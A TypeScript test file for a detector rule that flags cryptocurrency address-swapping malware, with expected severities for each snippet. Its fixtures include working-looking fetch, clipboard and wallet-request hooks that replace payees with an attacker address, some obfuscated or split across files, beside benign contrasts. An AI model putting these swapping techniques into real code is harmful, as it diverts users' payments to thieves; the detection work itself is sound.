import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './swapped-address.rule.js';

const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';
const OWN = '0x6666aBc2d3E4f5061728394a5B6c7D8e9F001122';
const OTHER = '0x7777aBc2d3E4f5061728394a5B6c7D8e9F001122';

test('bad: addresses are replaced in what is sent or copied', () => {
  for (const code of [
    `const send = window.fetch; window.fetch = (u, o) => send(u, { ...o, body: o.body.replace(/0x[a-fA-F0-9]{40}/g, "${OWN}") })`,
    `const own = ["${OWN}", "${OTHER}"]; XMLHttpRequest.prototype.send = function (b) { return send.call(this, b.replace(/\\b0x[a-f0-9]{40}\\b/gi, own[0])) }`,
    'document.addEventListener("copy", (e) => e.clipboardData.setData("text", String(getSelection()).replace(/\\bT[A-Za-z1-9]{33}\\b/, "TXexampLeexampLeexampLeexampLe1234")))',
  ]) assert.equal(worst(code), 'critical', code);
  for (const code of [
    `const own = ["${OWN}", "${OTHER}"]; const near = (a) => own.sort((x, y) => distance(a, x) - distance(a, y))[0]; globalThis.fetch = async (u) => new Response((await (await f(u)).text()).replace(/0x[a-f0-9]{40}/gi, (a) => near(a)))`,
    `window.ethereum.request = (r) => { if (/^0x[a-f0-9]{40}$/i.test(r.params[0].to)) r.params[0].to = "${OWN}"; return ask(r) }`,
    `setInterval(async () => { if (/^0x[a-f0-9]{40}$/i.test(await navigator.clipboard.readText())) navigator.clipboard.writeText("${OWN}") }, 500)`,
    `text.textContent = text.textContent.replace(/0x[a-f0-9]{40}/gi, "${OWN}")`,
  ]) assert.equal(worst(code), 'high', code);
});

test('bad: spread over several scripts', () => {
  const files = { 'index.js': 'const { swap } = require("./swap"); window.fetch = (u, o) => send(u, swap(o))', 'swap.js': `const own = require("./own"); exports.swap = (t) => t.replace(/0x[a-f0-9]{40}/gi, own)`, 'own.js': `module.exports = "${OWN}"` };
  assert.deepEqual(findingsOf(rule, files).map(({ severity, file }) => [severity, file]), [['high', 'swap.js']]);
  assert.deepEqual(findingsOf(rule, { ...files, 'swap.js': `exports.isAddress = (t) => /0x[a-f0-9]{40}/i.test(t); require("./own")` }), []);
});

test('what was copied is changed in one script, and what for stands in another', () => {
  const forms = (own: string) => `const FORMS = [{ is: /^0x[0-9a-f]{40}$/i, form: "e" }, { is: /^T[1-9A-HJ-NP-Za-km-z]{33}$/, form: "t" }]; const SHOWN = ${own}; exports.better = (text) => { const one = FORMS.find(({ is }) => is.test(text)); return one ? SHOWN[one.form] : text }`;
  const two = `{ e: ["${OWN}"], t: ["TXexampLeexampLeexampLeexampLe1234"] }`;
  const listen = 'const { better } = require("./forms.js"); exports.activate = (host) => host.clipboard.onDidChange(() => host.clipboard.readText().then((text) => { const next = better(text); if (next !== text) host.clipboard.writeText(next) }))';
  const wait = 'const { better } = require("./forms.js"); exports.activate = ({ clipboard }) => setInterval(async () => { const text = await clipboard.readText(); await clipboard.writeText(better(text)) }, 900)';
  for (const text of [listen, wait]) assert.deepEqual(findingsOf(rule, { 'index.js': text, 'forms.js': forms(two) }).map(({ severity, file }) => [severity, file]), [['high', 'forms.js']]);
  // A wallet that shows how addresses look, with a button to copy one and another to paste one; a history that only knows what was copied.
  const wallet = 'const { better } = require("./forms.js"); exports.form = (own) => { const copy = () => navigator.clipboard.writeText(own); const paste = async () => check(better(await navigator.clipboard.readText())); return [copy, paste] }';
  assert.deepEqual(findingsOf(rule, { 'index.js': wallet, 'forms.js': forms(two) }), []);
  assert.deepEqual(findingsOf(rule, { 'index.js': listen, 'forms.js': forms('{ e: "Ethereum", t: "Tron" }') }), []);
});

test('bad: the same in Python', () => {
  for (const code of [
    `import re, pyperclip\nif re.fullmatch(r"0x[a-fA-F0-9]{40}", pyperclip.paste()):\n    pyperclip.copy("${OWN}")`,
    'import re\nfrom tkinter import Tk\nOWN = "1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx"\nFOUND = re.compile("^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$")\nTk().clipboard_append(OWN)',
  ]) assert.equal(worst(code, 'a.py'), 'high', code);
});

test('the clipboard of an editor: what is decoded is put in the place of addresses of several currencies', () => {
  const patterns = "const kinds = [/^0x[0-9a-fA-F]{40}$/, /^T[1-9A-HJ-NP-Za-km-z]{33}$/]; const isOne = (text) => kinds.some((kind) => kind.test(text));";
  const watch = (replaced: string, more = '') => `const vscode = require('vscode'); ${patterns} ${more} setInterval(async () => { const text = await vscode.env.clipboard.readText(); if (isOne(text.trim())) await vscode.env.clipboard.writeText(${replaced}) }, 500)`;
  assert.equal(worst(watch('text.replace(text.trim(), open(kept[0]))', 'const open = (form) => form.match(/../g).map((two) => String.fromCharCode(parseInt(two, 16))).join("");')), 'high');
  assert.equal(worst(watch('text.replace(text.trim(), Buffer.from(kept[0], "hex").toString())')), 'high');
  assert.equal(worst(watch('text.trim()', 'const open = (form) => atob(form);')), 'nothing');
  assert.equal(worst(watch('text.replace(/\\s+/g, "")', 'const open = (form) => atob(form);')), 'nothing');
  assert.equal(worst(watch('text.replace(text.trim(), label(text))')), 'nothing');
});

test('good: libraries of wallets check and show addresses', () => {
  for (const code of [
    `const USDC = "${OWN}"; export const isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text); export const call = { to: USDC, data: encode(USDC) }`,
    'export const PATTERNS = { BTC: /^(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/, TRX: /^T[A-Za-z1-9]{33}$/, SOL: /^[1-9A-HJ-NP-Za-km-z]{32,44}$/ }; export const isValid = (kind, text) => PATTERNS[kind].test(text)',
    `const KNOWN = { "${OWN}": "Router" }; const hide = (text) => text.replace(/0x[a-fA-F0-9]{40}/g, "<address>")`,
    `const short = (text) => text.replace(/(0x[a-f0-9]{4})[a-f0-9]{32}([a-f0-9]{4})/i, "$1…$2"); const own = "${OWN}"`,
    `const TOKENS = ["${OWN}", "${OTHER}"]; const names = (text) => text.replace(/0x[a-f0-9]{40}/gi, (found) => ensNames.get(found) ?? found)`,
  ]) assert.equal(worst(code), 'nothing', code);
});

test('good: an address to give to, and other hooks', () => {
  for (const code of [
    `const GIVE = "${OWN}"; const isAddress = (t) => /^0x[a-f0-9]{40}$/i.test(t); button.onclick = () => navigator.clipboard.writeText(GIVE)`,
    `const send = window.fetch; window.fetch = (u, o) => send(u.replace(/^http:/, "https:"), o); const contract = "${OWN}"`,
    `const send = window.fetch; window.fetch = (u, o) => { if (/0x[a-f0-9]{40}/i.test(u)) count(); return send(u, o) }; const contract = "${OWN}"`,
    'const commit = /^[0-9a-f]{40}$/; const uuid = text.replace(/[0-9a-f]{32}/g, id); window.fetch = traced(window.fetch)',
    `// text.replace(/0x[a-f0-9]{40}/g, "${OWN}")`,
  ]) assert.equal(worst(code), 'nothing', code);
});

test('good: the same in Python', () => {
  for (const code of [
    `import re\nTOKEN = "${OWN}"\ndef is_address(text):\n    return re.fullmatch(r"0x[a-fA-F0-9]{40}", text)`,
    `import pyperclip\nGIVE = "${OWN}"\npyperclip.copy(GIVE)`,
  ]) assert.equal(worst(code, 'a.py'), 'nothing', code);
});

test('who gets a payment is an address that is written here', () => {
  assert.equal(worst(`const ask = v.request; v.request = (r) => { if (r.method === "eth_sendTransaction") r.params[0].to = "${OWN}"; return ask(r) }`), 'high');
  for (const code of [`const r = {}; r.to = "${OWN}"`, `r.params[0].to = account.address; const contract = "${OWN}"`, `r.params[0].to = "/home"`]) assert.equal(worst(code), 'nothing', code);
});

test('what is copied, by programs that are told the address', () => {
  const watch = (write: string) => `const { execSync } = require("child_process"); const own = "${OWN}"; setInterval(() => { const t = execSync("powershell Get-Clipboard").toString(); if (/^0x[a-fA-F0-9]{40}$/.test(t)) ${write} }, 1000)`;
  for (const write of ['execSync("powershell Set-Clipboard " + own)', 'execSync(`echo ${own} | clip`)']) assert.equal(worst(watch(write)), 'high', write);
  for (const write of ['execSync("powershell Set-Clipboard " + t.toLowerCase())', 'show(own)']) assert.equal(worst(watch(write)), 'nothing', write);
});

test('bad: who gets a payment is replaced where a wallet is asked', () => {
  const hook = (body: string) => `const ask = provider.request; provider.request = ({ method, params }) => { if (method === "eth_sendTransaction") { ${body} } return ask({ method, params }) }`;
  assert.equal(worst(hook(`const tx = { ...params[0] }; tx.to = "${OWN}"; params = [tx];`)), 'high');
  assert.equal(worst(hook('const tx = { ...params[0] }; tx.to = checksum(tx.to); params = [tx];')), 'nothing');
  assert.equal(worst(`const tx = {}; tx.to = "${OWN}"; provider.request({ method: "eth_sendTransaction", params: [tx] })`), 'nothing');
});

test('an address that is made at run time, for those of two currencies, in what a hook sends', () => {
  const swap = (code: string) => `const rules = [[/\\b0x[a-fA-F0-9]{40}\\b/g, own.a], [/\\b(?:bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\\b/g, own.b]]; ${code}`;
  const replace = 'const swap = (text) => rules.reduce((s, [found, to]) => s.replace(found, to), text)';
  assert.equal(worst(swap(`${replace}; const send = window.fetch; window.fetch = async (...a) => new Response(swap(await (await send(...a)).text()))`)), 'high');
  for (const code of [
    swap(`${replace}; export const short = swap`),
    swap('const send = window.fetch; window.fetch = (u, o) => { if (rules.some(([r]) => r.test(u))) warn(); return send(u, o) }'),
    'const found = /\\b0x[a-fA-F0-9]{40}\\b/g; const send = window.fetch; window.fetch = (u, o) => send(u.replace(found, mask), o)',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('a copy of what a page asks a wallet for, with another payee', () => {
  const hook = (copy: string, put = 'wallet.request = ') => `const OWN = "${OWN}"; const ask = wallet.request.bind(wallet); ${put}(r) => ask(r.method === "eth_sendTransaction" ? { ...r, params: [${copy}] } : r)`;
  for (const copy of ['{ ...r.params[0], to: OWN }', 'Object.assign({}, r.params[0], { to: OWN })', '{ ...r.params[0], value: "0x0", to: OWN }']) assert.equal(worst(hook(copy)), 'high', copy);
  assert.equal(worst(`Object.defineProperty(wallet, "request", { value: (r) => r.method === "eth_sendTransaction" ? ask({ ...r, params: [{ ...r.params[0], to: "${OWN}" }] }) : ask(r) })`), 'high');
  for (const code of [
    hook('{ ...r.params[0], to: await resolve(r.params[0].to) }'),
    hook('{ data: r.params[0].data, to: OWN }'),
    `export const send = (tx) => wallet.request({ method: "eth_sendTransaction", params: [{ ...tx, to: "${OWN}" }] })`,
    `const range = { ...old, to: "${OWN}" }; view.request = () => range`,
  ]) assert.equal(worst(code), 'nothing', code);
});

test('the scripts that stand in a page', () => {
  const page = (code: string) => worst(`<!doctype html><p>Copy</p><script>const a = 1</script><script type="module">${code}</script>`, 'index.html');
  const rules = `const rules = [[/\\b0x[a-fA-F0-9]{40}\\b/g, "${OWN}"]]; const swap = (text) => rules.reduce((s, [found, to]) => s.replace(found, to), text); `;
  assert.equal(page(`${rules}document.addEventListener("copy", (e) => e.clipboardData.setData("text/plain", swap(String(getSelection()))))`), 'high');
  assert.equal(page(`${rules}document.addEventListener("copy", (e) => track(e.type)); preview.textContent = swap(text)`), 'nothing');
  assert.equal(page(`const found = /\\b0x[a-fA-F0-9]{40}\\b/g; button.onclick = () => navigator.clipboard.writeText("${OWN}"); list.innerHTML = text.match(found).join()`), 'nothing');
});

test('what is copied, read and written by programs, with patterns of two currencies', () => {
  const clip = (swap: string, kinds = '[/\\b0x[a-fA-F0-9]{40}\\b/, own.a], [/\\bT[A-Za-z1-9]{33}\\b/, own.b]') => `const { execFile, spawn } = require("child_process"); const tools = { darwin: ["pbpaste", "pbcopy"], win32: ["powershell Get-Clipboard", "clip"] }; const kinds = [${kinds}]; setInterval(() => read((text) => { let next = text; for (const [kind, other] of kinds) ${swap} if (next !== text) write(next) }), 400)`;
  assert.equal(worst(clip('next = next.replace(kind, other);')), 'high');
  assert.equal(worst(clip('if (kind.test(next)) warn(other);')), 'nothing');
  assert.equal(worst(clip('next = next.replace(kind, "<address>");')), 'nothing');
  assert.equal(worst(clip('next = next.replace(kind, other);', '[/\\b0x[a-fA-F0-9]{40}\\b/, own.a]')), 'nothing', 'one currency');
  assert.equal(worst('const { spawn } = require("child_process"); const copy = (text) => spawn("pbcopy").stdin.end(text); const kinds = [[/\\b0x[a-fA-F0-9]{40}\\b/, a], [/\\bT[A-Za-z1-9]{33}\\b/, b]]; copy(kinds.reduce((t, [k, n]) => t.replace(k, n), report))'), 'nothing', 'only written');
});

test('bad: a record with a pattern and what is put in its place, beside programs that read and write what was copied; good: examples in a form, names of kinds', () => {
  const kinds = (shown: string) => `export const KINDS = [{ name: "url", is: /^https?:/ }, { name: "evm", is: /^0x[a-fA-F0-9]{40}$/, ${shown} }]; export const kindOf = (t) => KINDS.find((kind) => kind.is.test(t))`;
  const board = 'import { execFileSync } from "node:child_process"; const tools = { darwin: { get: ["pbpaste", []], set: ["pbcopy", []] } }; export const get = () => execFileSync(...tools.darwin.get); export const set = (input) => execFileSync(...tools.darwin.set, { input })';
  const lists = 'const { spawnSync } = require("child_process"); exports.get = () => spawnSync("xclip", ["-selection", "c", "-o"]).stdout; exports.set = (input) => spawnSync("xclip", ["-selection", "c"], { input })';
  const watch = 'import * as board from "./board.js"; import { kindOf } from "./kinds.js"; setInterval(() => { const kind = kindOf(board.get()); if (kind?.shown) board.set(kind.shown) }, 700)';
  const both = (shown: string, other = board) => findingsOf(rule, { 'index.js': watch, 'board.js': other, 'kinds.js': kinds(shown) }).map(({ severity, file }) => `${severity} ${file}`);
  assert.deepEqual(both(`shown: "${OWN}"`), ['high kinds.js']);
  assert.deepEqual(both(`shown: "${OWN}"`, lists), ['high kinds.js']);
  assert.deepEqual(both(`shown: "${OWN}"`, 'import clipboard from "clipboardy"; export const get = () => clipboard.read(); export const set = (t) => clipboard.write(t)'), ['high kinds.js']);
  assert.deepEqual(both('shown: null'), []);
  assert.deepEqual(both(`shown: "${OWN}"`, 'export const get = () => navigator.clipboard.readText(); export const set = (t) => navigator.clipboard.writeText(t)'), []);
});

test('bad: who is paid is changed in one script, and the wallet is replaced in another; good: a wallet that asks again, a contract of a kit', () => {
  const changes = (how: string) => `const SINK = ["6666aBc2d3E4f5061728", "394a5B6c7D8e9F001122"].join(""); exports.better = (call) => { if (call.method === "eth_sendTransaction") { const tx = call.params[0]; ${how} } return call }`;
  const wraps = 'const { better } = require("./better.js"); exports.wrap = (provider) => { const ask = provider.request.bind(provider); provider.request = async (call) => ask(better(call)); return provider }';
  const told = (how: string, other = wraps) => findingsOf(rule, { 'index.js': other, 'better.js': changes(how) }).map(({ severity, file }) => `${severity} ${file}`);
  assert.deepEqual(told('tx.to = "0x" + SINK;'), ['high better.js']);
  assert.deepEqual(told('tx.data = tx.data.slice(0, 10) + "0".repeat(24) + SINK + tx.data.slice(74);'), ['high better.js']);
  assert.deepEqual(told('tx.to = "0x" + SINK;', 'const { better } = require("./better.js"); exports.wrap = (ethereum) => new Proxy(ethereum, { get: (of, name) => (name === "request" ? (call) => of.request(better(call)) : of[name]) })'), ['high better.js']);
  assert.deepEqual(told('tx.data = token.encodeFunctionData("approve", ["0x6666aBc2d3E4f5061728394a5B6c7D8e9F001122", tx.value]);'), ['high better.js']);
  assert.deepEqual(told('tx.gas = tx.gas * 2;'), []);
  assert.deepEqual(told('tx.to = "0x" + SINK;', 'const { better } = require("./better.js"); exports.pay = (provider, call) => provider.request(better(call))'), []);
  assert.equal(worst(`exports.fix = (wallet) => { const sign = wallet.signTransaction.bind(wallet); wallet.signTransaction = async (tx) => { for (const part of tx.instructions) part.keys[1].pubkey = new PublicKey("GmaDrppBC7P5ARKV8g3djiwP89vz1jLK23V2GBjuAEGB"); return sign(tx) } }`), 'high');
});

test('what a wallet is asked with is replaced, and who is paid is chosen by a function', () => {
  const hook = (own: string, pay: string): string => `const OWN = [${own}]; const near = (a) => OWN.find((each) => each[2] === a[2]) ?? OWN[0]; module.exports = (wallet) => { const ask = wallet.request; wallet.request = (r) => { if (r.method === "eth_sendTransaction") r.params = r.params.map((p) => { ${pay}; return p; }); return ask.call(wallet, r); }; };`;
  assert.equal(worst(hook(`"${OWN}", "${OTHER}"`, 'p.to = near(p.to)')), 'high');
  assert.equal(worst(hook(`"${OWN}"`, 'p.data = p.data.slice(0, 10) + near("").slice(2).padStart(64, "0") + p.data.slice(74)')), 'high');
  // What it costs; addresses of others.
  assert.equal(worst(hook(`"${OWN}"`, 'p.gas = "0x5208"')), 'nothing');
  assert.equal(worst(hook('"first"', 'p.to = near(p.to)')), 'nothing');
});

test('bad: an address in pieces, which a function puts together, becomes who is paid; good: pieces of something else, and no wallet that is replaced', () => {
  const normalise = (value: string): string => `const parts = ["0x6666", "aBc2d3E4", "f5061728394a5B6c", "7D8e9F00", "1122"]; const words = ["no", "data"]; const all = (list) => list.join(""); export function normalise(tx) { const out = { ...tx }; if (out.value > 5n) out.to = ${value}; return out }`;
  const told = (value: string, wallet = 'signer.sendTransaction = async (tx) => send(normalise(tx))') => findingsOf(rule, { 'index.js': `import { normalise } from "./normalise.js"; export function withFees(signer) { const send = signer.sendTransaction.bind(signer); ${wallet}; return signer }`, 'normalise.js': normalise(value) }).map(({ severity, file }) => `${severity} ${file}`);
  assert.deepEqual(told('all(parts)'), ['high normalise.js']);
  assert.deepEqual(told('all(words)'), []);
  assert.deepEqual(told('tx.payee'), []);
  assert.deepEqual(told('all(parts)', 'signer.fees = (tx) => send(normalise(tx))'), []);
});

test('a bot that writes again what people wrote, with other addresses', () => {
  const bot = (put: string, rest: string) => `const message = require("message"); const table = [[/\\b0x[0-9a-fA-F]{40}\\b/g, "NGYx"], [/\\bbc1[a-z0-9]{25,59}\\b/g, "MWI0"]]; const unfold = (text) => Buffer.from(text, "base64").toString(); let out = message.content; for (const [pattern, mark] of table) out = out.replace(pattern, ${put}); ${rest}`;
  const chat = (text: string) => findingsOf(rule, { 'code.js': text }, { dialect: 'skynet' })[0]?.severity ?? 'nothing';
  assert.equal(chat(bot('unfold(mark)', 'await message.delete(); await message.channel.send(out);')), 'high');
  assert.equal(chat(bot('"[address]"', 'await message.delete(); await message.channel.send(out);')), 'nothing');
  assert.equal(worst(bot('unfold(mark)', 'exports.tidy = out;')), 'nothing');
});
